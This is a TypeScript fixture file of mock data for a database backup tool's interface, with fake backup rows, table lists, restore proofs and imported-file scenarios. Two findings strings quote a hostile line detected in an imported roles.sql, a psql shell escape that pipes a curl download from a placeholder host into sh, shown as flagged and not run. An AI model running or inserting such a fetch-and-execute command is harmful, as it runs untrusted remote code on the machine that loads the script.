import type { ArtifactView, BackupRow, BackupView, GrowthPoint, HeldView, RecognisedView } from '../bindings';
import { coverageThen } from './coverage';
import { NOW, proof } from './projects';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

export function backupRow(given: Partial<BackupRow> & { id: string }): BackupRow {
  return {
    shortId: given.id.slice(-6),
    projectId: 'p-shop-prod',
    project: 'shop-prod',
    atMs: NOW - 2 * HOUR - 14 * MINUTE,
    reason: null,
    trigger: 'by hand',
    who: 'anna',
    components: ['database', 'roles'],
    sizeBytes: 13_070_000_000,
    addedBytes: 41_000_000,
    rows: 12_480_113,
    tables: 42,
    migration: '0412',
    level: 'readable',
    lastProof: proof('readable', 2 * HOUR),
    warnings: 0,
    isNewestVerified: false,
    needs: null,
    heldBack: null,
    ...given,
  };
}

export const backups: BackupRow[] = Array.from({ length: 36 }, (_, index) =>
  backupRow({
    id: index === 0 ? 'b-shop-prod' : `b-8c04d2${String(index).padStart(2, '0')}`,
    shortId: `8c04d${index.toString(16)}`,
    atMs: NOW - 2 * HOUR - 14 * MINUTE - index * 6 * HOUR,
    isNewestVerified: index === 0,
    reason: index % 5 === 2 ? 'Before migration split_addresses' : null,
    trigger: index % 5 === 2 ? 'by hand' : 'command line',
    sizeBytes: 13_070_000_000 - index * 38_000_000,
    level: index % 4 === 1 ? 'restored' : index === 6 ? null : 'readable',
    lastProof:
      index === 6
        ? proof('readable', DAY, 'inconclusive', 'pg_restore 15 is missing on this computer')
        : index === 9
          ? proof('restored', DAY, 'fail', 'public.orders has 12 rows less than the manifest')
          : proof(index % 4 === 1 ? 'restored' : 'readable', 2 * HOUR + index * 6 * HOUR),
    warnings: index === 3 ? 1 : 0,
    needs:
      index === 11
        ? {
            name: 'backup_shop_20261119_020000',
            id: 'b-8c04d215',
            atMs: NOW - 2 * HOUR - 14 * MINUTE - 15 * 6 * HOUR,
          }
        : null,
    heldBack:
      index === 13
        ? 'orders has exactly 1,000 rows, which is what a platform reads at once: it was probably cut. Back the database up directly'
        : null,
  }),
);

/** Names of tables, the first as a shop has them. */
export const TABLES = [
  'events',
  'order_items',
  'orders',
  'payments',
  'carts',
  'customers',
  'addresses',
  'products',
  'sessions',
  'invoices',
];

/** What a backup that came as a file says of itself. */
const artifact: ArtifactView = {
  what: 'A full backup of “shop”, made by a SupaManager.',
  layers: ['AES-256-CBC with PBKDF2', 'gzip', 'tar'],
  madeBy: 'a SupaManager',
  madeAtMs: NOW - 7 * DAY,
  remoteId: 'rb-10',
  findings: [
    'Not authenticated: This kind of encryption cannot show changes. Checksums can, where there are any.',
    'Shell command: database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.',
  ],
  unloaded: null,
  isTrusted: true,
};

/** What any database may have. */
const plain: RecognisedView = {
  provider: null,
  things: [
    { name: 'jobs', count: 2, files: null },
    { name: 'functions', count: 41, files: null },
  ],
  sentences: ['2 jobs, 41 functions'],
};

/** What a platform put into a database, with the files that lie beside it. */
const ofPlatform: RecognisedView = {
  provider: 'Supabase',
  things: [
    { name: 'users', count: 128, files: null },
    { name: 'buckets', count: 3, files: null },
    { name: 'objects', count: 24_016, files: { sizeBytes: null, isHeld: true } },
    { name: 'secrets', count: 3, files: null },
    ...plain.things,
  ],
  sentences: ['128 users, 3 buckets with 24,016 objects, 3 secrets, 2 jobs, 41 functions'],
};

/** What is beside a database, as its sources gave it. */
const beside: HeldView[] = [
  {
    component: 'storage',
    name: 'uploads',
    from: 'folder /srv/shop/uploads',
    items: 24_016,
    unit: 'files',
    bytes: 5_790_000_000,
    unchanged: 23_990,
    odd: 2,
    named: [
      '2026/11/tmp.jpg: it was written to while it was read',
      'lost.jpg: it was gone when it was to be read',
    ],
    about: [],
    level: 'readable',
    comesBack: true,
  },
  {
    component: 'config',
    name: 'config',
    from: '/srv/shop',
    items: 7,
    unit: 'files',
    bytes: 18_400,
    unchanged: 7,
    odd: 0,
    named: [],
    about: [
      'Commit 3f2a9c1b04c7 of main, from https://git.example/acme/shop.git',
      'Images: postgres:17, redis:7, registry.example/acme/shop:2026.11.2',
    ],
    level: 'readable',
    comesBack: true,
  },
  {
    component: 'redis',
    name: 'redis',
    from: 'Redis at cache.shop.example:6379',
    items: 41_288,
    unit: 'keys',
    bytes: 9_400_000,
    unchanged: 0,
    odd: 0,
    named: [],
    about: [],
    level: 'readable',
    comesBack: true,
  },
];

/** The database of a backup, as one of what it holds. */
const heldDatabase = (row: BackupRow, tables: number): HeldView[] =>
  tables === 0
    ? []
    : [
        {
          component: 'database',
          name: 'shop',
          from: 'db.shop.example:5432',
          items: tables,
          unit: 'tables',
          bytes: row.sizeBytes,
          unchanged: 0,
          odd: 0,
          named: [],
          about: [],
          level: row.level,
          comesBack: true,
        },
      ];

const heldTrees = (trees: BackupView['trees']): HeldView[] =>
  trees.map(({ component, path, files, sizeBytes }) => ({
    component,
    name: path.replace(/^\//, ''),
    from: null,
    items: files,
    unit: 'files',
    bytes: sizeBytes,
    unchanged: 0,
    odd: 0,
    named: [],
    about: [],
    level: 'readable',
    comesBack: false,
  }));

/** As it is shown: what it holds follows from its parts. */
export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupView {
  const view = plainView(row, tables, scenario);
  const held = [...heldDatabase(view.row, view.row.components.includes('database') ? tables : 0)];
  if (scenario === 'whole')
    return {
      ...view,
      row: { ...view.row, components: [...view.row.components, 'storage', 'config', 'redis'] },
      components: [...held, ...beside],
      coverage: coverageThen,
      absent: [
        {
          component: 'logs',
          name: 'project_logs',
          why: 'the role may not read every row of public.project_logs',
        },
      ],
    };
  return { ...view, components: [...held, ...heldTrees(view.trees)] };
}

function plainView(row: BackupRow, tables: number, scenario: string): BackupView {
  const made = databaseView(
    row,
    ['file_without_database', 'file_unloaded', 'file_given'].includes(scenario) ? 0 : tables,
  );
  if (!scenario.startsWith('file_')) return made;
  const project = ['file_backup', 'file_telegram'].includes(scenario)
    ? { projectId: 'p-booking-manager', project: 'booking-manager' }
    : {};
  const view: BackupView = {
    ...made,
    row: { ...made.row, ...project, components: [...row.components, 'artifact'] },
    artifact,
    toolVersion: null,
    recognised: made.recognised && ofPlatform,
    origin: 'SupaManager at manager.example',
    lsn: null,
    trees: [
      { component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 },
      { component: 'config', path: 'config', files: 3, sizeBytes: 9150 },
    ],
  };
  if (scenario === 'file_unloaded')
    return {
      ...view,
      row: { ...row, components: ['artifact', 'config'], tables: 0, rows: null },
      parts: [],
      serverVersion: null,
      extensions: [],
      notTaken: null,
      trees: view.trees.slice(1),
      artifact: {
        ...artifact,
        unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program',
        isTrusted: false,
      },
    };
  if (scenario === 'file_given')
    return {
      ...view,
      row: { ...row, components: ['config'], tables: 0, rows: null, level: 'bytes' },
      parts: [],
      serverVersion: null,
      extensions: [],
      notTaken: null,
      artifact: {
        ...artifact,
        what: 'Configuration of abcdefghijklmnopqrst at Supabase',
        layers: [],
        madeBy: 'Supabase',
        madeAtMs: null,
        remoteId: null,
        findings: ['auth.json changed: site_url.'],
      },
      trees: [{ component: 'config', path: '/config', files: 13, sizeBytes: 48_120 }],
    };
  if (scenario !== 'file_without_database') return view;
  return {
    ...view,
    row: { ...row, components: ['artifact', 'logs'], tables: 0, rows: null },
    parts: [],
    serverVersion: null,
    extensions: [],
    notTaken: null,
    trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }],
  };
}

function databaseView(row: BackupRow, tables: number): BackupView {
  return {
    row,
    parts: [
      { component: 'database', path: 'database.dump', sizeBytes: row.sizeBytes, sha256: '9f2c'.repeat(16) },
      { component: 'roles', path: 'roles.sql', sizeBytes: 4120, sha256: '11ab'.repeat(16) },
    ],
    tableList: Array.from({ length: tables }, (_, index) => ({
      schema: index % 17 === 16 ? 'reporting' : 'public',
      name: TABLES[index] ?? `table_${index}`,
      rows: Math.round(7_204_911 / (index + 1)),
      sizeBytes: Math.round(4_100_000_000 / (index + 1)),
      fingerprint: (0x9f2c3d * (index + 7)).toString(16),
    })),
    serverVersion: '15.8',
    toolVersion: '15.10',
    recognised: tables > 0 ? plain : null,
    trees: [],
    components: [],
    coverage: null,
    typeWords: row.trigger === 'import' ? null : 'full, everything that the project had',
    absent: [],
    artifact: null,
    origin: 'shop at db.shop.example:5432',
    lsn: '4/9E2A11D8',
    startedAtMs: row.atMs,
    finishedAtMs: row.atMs + 13 * MINUTE,
    extensions: ['pgcrypto', 'uuid-ossp'],
    notTaken: null,
    warnings: row.warnings > 0 ? ['table vat_rates is new since 09:02; it is included'] : [],
    proofs: row.lastProof ? [row.lastProof, proof('bytes', 3 * HOUR)] : [],
    restoreCommand: `holdfast restore ${row.shortId} --to scratch`,
    previousId: backups[backups.findIndex(({ id }) => id === row.id) + 1]?.id ?? null,
  };
}

export const growth: GrowthPoint[] = Array.from({ length: 60 }, (_, index) => ({
  backupId: `b-${index}`,
  atMs: NOW - (59 - index) * DAY,
  sizeBytes: index === 51 ? 10_400_000_000 : 9_100_000_000 + index * 66_000_000,
  addedBytes: 40_000_000,
}));
